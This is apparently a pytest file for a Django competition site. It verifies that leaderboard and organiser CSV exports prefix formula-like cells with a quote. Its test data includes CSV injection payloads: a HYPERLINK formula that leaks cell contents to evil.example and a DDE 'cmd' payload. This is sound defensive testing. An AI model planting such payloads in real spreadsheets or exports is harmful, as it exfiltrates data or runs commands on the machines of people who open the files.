"""Spreadsheet formula injection (OWASP's CSV injection): every CSV export neutralises text cells that
a spreadsheet would run, through one helper; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.test import Client

from core.csv_export import spreadsheet_safe
from tests.factories import ChallengeFactory, DatasetFactory, OrganiserFactory, PhaseFactory, TeamFactory
from tests.leaderboard.test_boards import entry

REPO = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "@SUM(1+1)",
    "+cmd|'/C calc'!A0",
    "-2+3",
    "\t=1",
    "\r=1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_starts_a_formula_gets_a_leading_quote(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["-0.25", "+3", "-1e-3", "12.50", -4, 2.5, None, "Team = good", "a-b"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert spreadsheet_safe(value) == value


@pytest.fixture
def hostile_board(db):
    challenge = ChallengeFactory(slug="vp")
    for order, name in enumerate(("MSRVTT", "MSVD")):
        DatasetFactory(challenge=challenge, name=name, order=order)
    phase = PhaseFactory(challenge=challenge, slug="val")
    evil = TeamFactory(challenge=challenge, name=HOSTILE[0])
    plain = TeamFactory(challenge=challenge, name="Plain")
    entry(evil, phase, 40.0, 20.0, method_name="@SUM(1+1)", moderation_reason="=cmd")
    entry(plain, phase, -5.0, -15.0, method_name="-negative-method")
    return phase


def test_the_public_leaderboard_csv_is_neutralised(hostile_board):
    phase = hostile_board
    response = Client().get(f"/c/{phase.challenge.slug}/{phase.slug}/leaderboard.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [(r["team"], r["method"], r["overall"]) for r in rows] == [
        ("'" + HOSTILE[0], "'@SUM(1+1)", "30.00"),
        ("Plain", "'-negative-method", "-10.00"),  # the negative score stays a number
    ]


def test_the_organisers_submissions_csv_is_neutralised(hostile_board):
    phase = hostile_board
    client = Client()
    client.force_login(OrganiserFactory(organises=[phase.challenge]))
    response = client.get(f"/organiser/phases/{phase.id}/submissions.csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    cells = {value for row in rows for value in row.values()}
    assert {"'" + HOSTILE[0], "'@SUM(1+1)", "'=cmd", "'-negative-method"} <= cells
    assert not any(value.startswith(("=", "@", "+")) for value in cells)


def test_no_export_writes_csv_without_the_helper():
    offenders = [
        str(path.relative_to(REPO))
        for folder in ("core", "challenge", "leaderboard", "accounts", "workers", "config")
        for path in (REPO / folder).rglob("*.py")
        if path.name != "csv_export.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []
